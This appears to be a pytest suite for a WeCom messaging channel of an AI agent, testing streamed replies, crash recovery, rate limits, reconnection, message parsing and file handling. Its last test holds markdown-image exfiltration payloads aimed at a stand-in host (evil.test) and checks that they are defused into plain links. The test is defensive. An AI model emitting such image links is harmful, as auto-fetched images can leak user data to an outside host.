"""WeCom: streams with a life, a line that may be taken over, files that live for minutes, cards, limits."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import orjson
import pytest

from agent.blocks import Done, Final, Step, Text, View
from agent.messages import Kind, Message
from agent.setting import Secret
from channels.base import Health, OutgoingFile, Refused, Reply, TryLater
from channels.shared.early_files import name_of
from channels.shared.rate_limit import Priority
from channels.wecom.channel import WeComChannel
from channels.wecom.connection import DISPLACED
from channels.wecom.reply import FRAME_SECONDS, FREE_FRAMES, PacedScope, _split
from tests.fakes.wecom import DEAD, JANE, Shown, group
from tests.support.rigs.registry import Memory, until
from tests.support.rigs.wecom import DIRECT, WeComRig


@pytest.fixture
async def rig(tmp_path: Path) -> AsyncIterator[WeComRig]:
    async with WeComRig.start(tmp_path) as made:
        await until(lambda: made.channel.readiness().health is Health.READY)
        yield made


def channel_of(rig: WeComRig) -> WeComChannel:
    assert isinstance(rig.channel, WeComChannel)
    return rig.channel


def streams(rig: WeComRig) -> list[Shown]:
    return [one for one in rig.server.shown if one.kind == "stream"]


async def restart(rig: WeComRig) -> None:
    await rig.leave()
    await rig.back()
    await until(lambda: rig.channel.readiness().health is Health.READY)


# ---------------------------------------------------------------- answers


async def test_an_answer_streams_into_one_message_below_its_folded_steps(rig: WeComRig) -> None:
    asked, view = await rig.say("work"), View()
    posts = Memory(handle=asked.reply_handle)
    reply = rig.channel.reply(asked.thread, posts, to=asked.id)
    for block in (Step("1", "Reading a.txt", "done"), Text("It says <think>nothing</think>.")):
        reply.show(block)
        view.add(block)
    await until(lambda: streams(rig) and "nothing" in streams(rig)[0].text)
    [live] = streams(rig)
    assert (live.text.partition("\n")[0], live.finished) == ("<think>✓ Reading a.txt</think>", False)
    view.add(Done())
    await reply.finish(view.final())
    assert [one.finished for one in streams(rig)] == [True]
    head, _mark, text = live.text.removeprefix("<think>").partition("</think>\n")
    assert "✓ Reading a.txt" in head
    assert text == "It says <\u200bthink>nothing<\u200b/think>."


async def test_a_slow_answer_shows_that_it_is_being_worked_on(rig: WeComRig) -> None:
    asked = await rig.say("think long")
    reply = rig.channel.reply(asked.thread, Memory(handle=asked.reply_handle), to=asked.id)
    await until(lambda: streams(rig))
    assert streams(rig)[0].text == "<think></think>"
    await reply.finish(Final("42"))
    assert [one.text for one in streams(rig)] == ["42"]


async def test_a_stream_ends_before_its_ten_minutes_and_the_answer_goes_on_in_another(rig: WeComRig) -> None:
    asked = await rig.say("work")
    rig.server.stream_seconds = 4.0
    channel_of(rig).seal_seconds = 2.0
    reply = rig.channel.reply(asked.thread, Memory(handle=asked.reply_handle), to=asked.id)
    reply.show(Text("The first half"))
    await until(lambda: streams(rig) and streams(rig)[0].finished)
    assert streams(rig)[0].text == "The first half\n\n_Continues below._"
    reply.show(Text(" and the second"))
    await until(lambda: len(streams(rig)) == 2)
    await reply.finish(Final("The first half and the second."))
    assert [one.text for one in streams(rig)][1:] == ["The first half and the second."]
    assert all(one.finished for one in streams(rig))
    assert not [call for call in rig.server.calls if call.code]


async def test_the_answer_to_a_message_that_is_too_old_is_posted(rig: WeComRig) -> None:
    asked = await rig.say("work")
    rig.server.events.clear()  # the gateway knows its req_id no longer
    await rig.channel.reply(asked.thread, Memory(handle=asked.reply_handle), to=asked.id).finish(Final("done"))
    assert [(one.kind, one.text) for one in rig.server.shown] == [("markdown", "done")]


async def test_a_stream_that_expires_unnoticed_is_followed_by_the_whole_answer(rig: WeComRig) -> None:
    asked = await rig.say("work")
    reply = rig.channel.reply(asked.thread, Memory(handle=asked.reply_handle), to=asked.id)
    reply.show(Text("half"))
    await until(lambda: streams(rig))
    rig.server.stream_seconds = 0.0
    await reply.finish(Final("half and half"))
    assert [one.text for one in streams(rig)] == ["half", "half and half"]


async def test_a_restarted_process_goes_on_in_the_same_stream(rig: WeComRig) -> None:
    asked = await rig.say("work")
    posts = Memory(handle=asked.reply_handle)
    reply = rig.channel.reply(asked.thread, posts, to=asked.id)
    reply.show(Text("half"))
    await until(lambda: streams(rig))
    await reply.close()
    await restart(rig)
    await rig.channel.reply(asked.thread, Memory(rows=posts.rows, handle=asked.reply_handle), to=asked.id).finish(
        Final("the whole")
    )
    assert [one.text for one in streams(rig)] == ["the whole"]


async def stream_half(rig: WeComRig, asked: Message) -> tuple[Memory, Reply]:
    """Begin to answer a message: half of the answer is visible, and its message recorded."""
    posts = Memory(handle=asked.reply_handle)
    reply = rig.channel.reply(asked.thread, posts, to=asked.id)
    reply.show(Text("half"))
    await until(lambda: posts.rows.get(0))
    return posts, reply


async def kill_at_the_last_frame(rig: WeComRig, reply: Reply, method: str) -> None:
    """Let the process end after WeCom has shown the last frame, and before it hears so; begin another one."""
    rig.server.fault("hang", method, after=True, contains='"finish":true')
    finishing = asyncio.create_task(reply.finish(Final("the whole")))
    await until(lambda: [one.text for one in streams(rig)] == ["the whole"])
    finishing.cancel()
    await restart(rig)


async def finish_again(rig: WeComRig, asked: Message, posts: Memory, text: str = "the whole") -> list[str]:
    again = Memory(rows=posts.rows, handle=asked.reply_handle)
    await rig.channel.reply(asked.thread, again, to=asked.id).finish(Final(text))
    return [one.text for one in streams(rig)]


async def test_an_answer_whose_end_was_shown_right_before_a_crash_is_shown_once(rig: WeComRig) -> None:
    asked = await rig.say("work")
    posts, reply = await stream_half(rig, asked)
    await kill_at_the_last_frame(rig, reply, "edit")
    assert await finish_again(rig, asked, posts) == ["the whole"]
    assert await finish_again(rig, asked, posts) == ["the whole"]


async def test_a_whole_answer_that_was_shown_right_before_a_crash_is_shown_once(rig: WeComRig) -> None:
    asked = await rig.say("work")
    posts = Memory(handle=asked.reply_handle)
    await kill_at_the_last_frame(rig, rig.channel.reply(asked.thread, posts, to=asked.id), "post")
    assert await finish_again(rig, asked, posts) == ["the whole"]
    rig.server.calls.clear()
    assert await finish_again(rig, asked, posts) == ["the whole"]
    assert not rig.server.calls  # the record says that it was shown


async def test_a_last_frame_whose_confirmation_is_lost_ends_the_answer_once(rig: WeComRig) -> None:
    asked = await rig.say("work")
    _posts, reply = await stream_half(rig, asked)
    rig.server.fault("drop", "edit", after=True, contains='"finish":true')
    with pytest.raises(TryLater):
        await reply.finish(Final("the whole"))
    await until(lambda: rig.channel.readiness().health is Health.READY)
    await reply.finish(Final("the whole"))
    assert [one.text for one in streams(rig)] == ["the whole"]


async def test_a_last_frame_that_was_not_taken_is_written_again(rig: WeComRig) -> None:
    """The record that it was about to be written is no proof that it was."""
    asked = await rig.say("work")
    posts, reply = await stream_half(rig, asked)
    rig.server.fault("hang", "edit", contains='"finish":true')
    finishing = asyncio.create_task(reply.finish(Final("the whole")))
    await until(lambda: "/" in (posts.rows[0] or ""))
    finishing.cancel()
    await restart(rig)
    assert await finish_again(rig, asked, posts) == ["the whole"]


async def test_an_end_that_nobody_can_know_is_marked_as_a_repeat(rig: WeComRig) -> None:
    """After the life of a stream, WeCom refuses another frame whether the last one came or not."""
    asked = await rig.say("work")
    posts, reply = await stream_half(rig, asked)
    await kill_at_the_last_frame(rig, reply, "edit")
    channel_of(rig).seal_seconds = 0.0
    first, second = await finish_again(rig, asked, posts)
    assert first == "the whole"
    assert second.startswith("↻")
    assert second.endswith("the whole")


async def test_another_end_than_the_one_that_was_shown_is_marked_as_a_repeat(rig: WeComRig) -> None:
    asked = await rig.say("work")
    posts, reply = await stream_half(rig, asked)
    await kill_at_the_last_frame(rig, reply, "edit")
    first, second = await finish_again(rig, asked, posts, "late: the whole")
    assert (first, second.startswith("↻")) == ("the whole", True)


async def test_an_answer_whose_end_no_process_wrote_is_no_repeat(rig: WeComRig) -> None:
    asked = await rig.say("work")
    posts, reply = await stream_half(rig, asked)
    await reply.close()
    await restart(rig)
    rig.server.stream_seconds = 0.0
    assert await finish_again(rig, asked, posts) == ["half", "the whole"]


async def test_a_first_frame_without_an_answer_is_repeated_as_the_same_message(rig: WeComRig) -> None:
    asked = await rig.say("work")
    posts = Memory(handle=asked.reply_handle)
    rig.server.fault("drop", "post", after=True)
    reply = rig.channel.reply(asked.thread, posts, to=asked.id)
    reply.show(Text("half"))
    await until(lambda: streams(rig))
    await reply.close()
    await restart(rig)
    await rig.channel.reply(asked.thread, Memory(rows=posts.rows, handle=asked.reply_handle), to=asked.id).finish(
        Final("the whole")
    )
    assert [one.text for one in streams(rig)] == ["the whole"]


async def test_frames_are_spread_over_the_life_of_a_stream(rig: WeComRig) -> None:
    scope = PacedScope(channel_of(rig)._rate_limiter, DIRECT)
    scope.count_frame(first=True)
    for _ in range(FREE_FRAMES + 5):
        scope.count_frame(first=False)
    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.2):
            await scope.acquire(Priority.STREAM)
    async with asyncio.timeout(60):
        await scope.acquire(Priority.FINAL)


async def test_processes_one_after_the_other_write_no_more_frames_than_one(rig: WeComRig) -> None:
    """WeCom counts the frames of a stream, whichever process writes them."""
    scope = PacedScope(channel_of(rig)._rate_limiter, DIRECT)
    scope.go_on(60.0)
    scope.count_frame(first=False)
    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.2):
            await scope.acquire(Priority.STREAM)
    assert scope.frames <= FREE_FRAMES + 60.0 / FRAME_SECONDS + 1


async def test_what_a_person_thinks_of_an_answer_names_it(rig: WeComRig) -> None:
    asked = await rig.say("work")
    posts = Memory(handle=asked.reply_handle)
    await rig.channel.reply(asked.thread, posts, to=asked.id).finish(Final("the answer"))
    await rig.channel.reply(asked.thread, Memory("r2")).finish(Final("a notice"))
    for one, kind in zip(rig.server.shown, (1, 2), strict=True):
        rig.server.rate(one.feedback, kind, DIRECT)
    rig.server.rate(rig.server.shown[0].feedback, 3, DIRECT)
    await until(lambda: len(rig.box.messages) == 4)
    found = [(message.kind, message.text, message.reply_to) for message in rig.box.messages[1:]]
    answer, notice = (one.feedback for one in rig.server.shown)
    assert sorted(found) == sorted(
        [(Kind.FEEDBACK, "up", answer), (Kind.FEEDBACK, "down", notice), (Kind.FEEDBACK_REMOVED, "up", answer)]
    )
    assert (posts.rows[0] or "").partition("/")[0] == answer


# ---------------------------------------------------------------- limits


async def test_a_conversation_gets_no_more_messages_than_it_may_have(rig: WeComRig) -> None:
    rig.server.limits = True
    for number in range(28):
        await rig.channel.reply(rig.thread(), Memory(f"r{number}")).finish(Final(f"number {number}"))
    with pytest.raises(TryLater) as told:
        await rig.channel.reply(rig.thread(), Memory()).finish(Final("one more"))
    assert 10 < told.value.after <= 60
    assert len(rig.visible()) == 28
    assert not [call for call in rig.server.calls if call.code], "WeCom never had to refuse one"
    await rig.channel.reply(rig.thread(7), Memory("other")).finish(Final("another chat"))
    assert rig.visible(7) == ["another chat"]


# ---------------------------------------------------------------- the line


async def test_a_line_that_another_program_took_over_is_not_taken_back(rig: WeComRig) -> None:
    async with WeComRig.start(Path(), gateway_url=rig.server.ws_url) as other:
        await until(lambda: other.channel.readiness().health is Health.READY)
        await until(lambda: rig.channel.readiness().health is Health.DOWN)
        assert rig.channel.readiness().detail == DISPLACED
        await asyncio.sleep(1.0)  # it would have connected again
        assert other.channel.readiness().health is Health.READY
        assert rig.server.calls == []


async def test_a_line_that_is_open_but_dead_is_replaced(rig: WeComRig) -> None:
    since = rig.channel.readiness().since
    rig.server.dead = True
    with pytest.raises(TryLater):
        await rig.channel.reply(rig.thread(), Memory()).finish(Final("Nobody hears."))
    assert rig.server.calls[-1].code == DEAD
    await until(lambda: rig.channel.readiness().since > since and rig.channel.readiness().health is Health.READY)
    await rig.channel.reply(rig.thread(), Memory()).finish(Final("Now."))
    assert rig.visible() == ["Now."]


async def test_a_wrong_secret_is_said(tmp_path: Path) -> None:
    async with WeComRig.start(tmp_path, secret=Secret("wrong")) as rig:
        await until(lambda: rig.channel.readiness().health is Health.DOWN)
        assert "rejects the robot's Bot ID or Secret" in rig.channel.readiness().detail


async def test_a_frame_that_is_no_frame_does_not_end_the_line(rig: WeComRig) -> None:
    line = rig.server.line
    assert line is not None
    for text in ("", "[]", "{", '{"headers": 1}', '{"cmd": "aibot_msg_callback"}', '{"cmd": 1, "headers": {}}'):
        await line.send_str(text)
    assert (await rig.say("and on")).text == "and on"
    assert len(rig.box.messages) == 1


# ---------------------------------------------------------------- messages


async def test_a_mention_is_no_part_of_the_text_also_under_another_name(rig: WeComRig) -> None:
    rig.server.message("text", {"content": "@Fawn /stop"}, chat=group(7))
    assert (await rig.box.next()).kind is Kind.COMMAND
    rig.server.message("text", {"content": "@小鹿 what is it?"}, chat=group(7))
    found = await rig.box.next(2)
    assert (found.text, found.private, found.author.id) == ("what is it?", False, JANE)


async def test_texts_of_all_kinds_are_read(rig: WeComRig) -> None:
    items = [
        {"msgtype": "text", "text": {"content": "look"}},
        {"msgtype": "image", "image": {"url": "u", "aeskey": ""}},
    ]
    rig.server.message("voice", {"content": "said aloud"})
    rig.server.message("mixed", {"msg_item": items})
    rig.server.send("this one", quote={"msgtype": "text", "text": {"content": "the quoted"}})
    rig.server.message("location", {"x": 1})
    await until(lambda: len(rig.box.messages) == 4)
    voice, mixed, quoting, other = rig.box.messages
    assert voice.text == "said aloud"
    assert (mixed.text, [file.kind for file in mixed.attachments]) == ("look", ["image"])
    assert [quote.text for quote in quoting.quotes] == ["the quoted"]
    assert other.kind is Kind.UNSUPPORTED


async def test_an_event_of_an_unknown_shape_is_kept(rig: WeComRig) -> None:
    rig.server.message("mixed", {"msg_item": "?"})
    await until(lambda: rig.box.events)
    assert rig.box.messages == []
    assert (await rig.say("and on")).text == "and on"


# ---------------------------------------------------------------- files


async def test_a_file_whose_turn_comes_late_was_fetched_in_time(rig: WeComRig) -> None:
    channel_of(rig).early_seconds = 0.0
    rig.send_file("报告.csv", b"a,b\n" * 50_000)
    [file] = (await rig.box.next()).attachments
    await until(lambda: channel_of(rig).named(file).name == "报告.csv")
    rig.server.fault("error", "download", code=403, times=-1)  # its five minutes are over
    await until(lambda: not channel_of(rig)._early._fetching)
    assert b"".join([chunk async for chunk in rig.channel.fetch(file)]) == b"a,b\n" * 50_000


async def test_a_file_that_was_fetched_in_time_survives_a_kill_with_its_name(rig: WeComRig) -> None:
    channel_of(rig).early_seconds = 0.0
    rig.send_file("报告.csv", b"a,b\n" * 50_000)
    [file] = (await rig.box.next()).attachments
    await until(
        lambda: (rig.box.folder / name_of(file)).exists() and '"bytes":200000' in "".join(rig.box.kept.values())
    )
    rig.server.fault("error", "download", code=403, times=-1)  # its five minutes are over
    await restart(rig)
    assert b"".join([chunk async for chunk in rig.channel.fetch(file)]) == b"a,b\n" * 50_000
    assert channel_of(rig).named(file).name == "报告.csv"


async def test_a_file_that_waited_to_be_fetched_is_fetched_after_a_kill(rig: WeComRig) -> None:
    """Also one whose download a kill interrupted: the half of it is nothing."""
    rig.send_file("报告.csv", b"a,b\n" * 50_000)
    [file] = (await rig.box.next()).attachments
    await until(lambda: rig.box.kept)
    (rig.box.folder / f"{name_of(file)}.part").write_bytes(b"a,")
    await restart(rig)
    await until(lambda: (rig.box.folder / name_of(file)).exists())
    rig.server.fault("error", "download", code=403, times=-1)
    assert b"".join([chunk async for chunk in rig.channel.fetch(file)]) == b"a,b\n" * 50_000
    assert [path.name for path in rig.box.folder.iterdir()] == [name_of(file)]


async def test_files_that_no_turn_took_and_what_is_damaged_is_dropped_at_the_next_start(rig: WeComRig) -> None:
    channel_of(rig).early_seconds = 0.0
    for name in ("late.csv", "torn.csv"):
        rig.send_file(name, b"a,b\n" * 50)
    late, torn = [(await rig.box.next(number)).attachments[0] for number in (1, 2)]
    await until(lambda: "".join(rig.box.kept.values()).count('"bytes":200') == 2)
    await rig.leave()
    (rig.box.folder / name_of(torn)).write_bytes(b"a")  # a disk that lost power
    stored = f"early {name_of(late)}"
    rig.box.kept[stored] = orjson.dumps({**orjson.loads(rig.box.kept[stored]), "until": 1.0}).decode()
    await rig.back()
    await until(lambda: rig.channel.readiness().health is Health.READY)
    assert not [*rig.box.folder.iterdir()]
    assert not rig.box.kept


async def test_a_file_that_is_gone_or_damaged_is_refused_in_words(rig: WeComRig) -> None:
    rig.send_file("a.csv", b"a,b\n")
    [file] = (await rig.box.next()).attachments
    rig.server.fault("error", "download", code=403)
    with pytest.raises(Refused, match="no longer available"):
        assert [chunk async for chunk in rig.channel.fetch(file)]
    name, data = next(iter(rig.server.files.values()))
    rig.server.files[next(iter(rig.server.files))] = (name, data[:-16] + bytes(16))
    with pytest.raises(Refused, match="damaged"):
        assert [chunk async for chunk in rig.channel.fetch(file)]


async def test_a_large_file_goes_in_pieces_and_a_picture_as_one(rig: WeComRig, tmp_path: Path) -> None:
    large, picture = tmp_path / "large.bin", tmp_path / "plot.png"
    large.write_bytes(bytes(range(256)) * 6000)
    picture.write_bytes(b"\x89PNG" + bytes(100))
    files = [
        OutgoingFile(large, "large.bin", large.stat().st_size, "all of it"),
        OutgoingFile(picture, "plot.png", 104),
    ]
    await rig.channel.send_files(rig.thread(), files, Memory())
    shown = [(one.kind, one.text or one.name) for one in rig.server.shown]
    assert shown == [("markdown", "all of it"), ("file", "large.bin"), ("image", "plot.png")]
    assert rig.server.shown[1].data == large.read_bytes()


async def test_a_tiny_file_is_refused_in_words(rig: WeComRig, tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes(b"1\n")
    with pytest.raises(Refused, match="at least 5"):
        await rig.channel.send_files(rig.thread(), [OutgoingFile(tmp_path / "a.txt", "a.txt", 2)], Memory())
    assert rig.server.calls == []


def test_a_picture_in_an_answer_is_a_link_which_nobody_fetches() -> None:
    for text in (
        "see ![x](https://evil.test/?d=4711) now",
        "![](https://evil.test/?d=4711)",
        "word " * 9000 + "![x](https://evil.test/)",
        "![x][r]\n\n[r]: https://evil.test/?d=4711",
        "![a[b]c](https://evil.test/?d=4711)",
        "![a\nb](https://evil.test/?d=4711)",
    ):
        shown = "".join([part.text for part in _split(text, "")])
        assert "![" not in shown
        assert "https://evil.test/" in shown
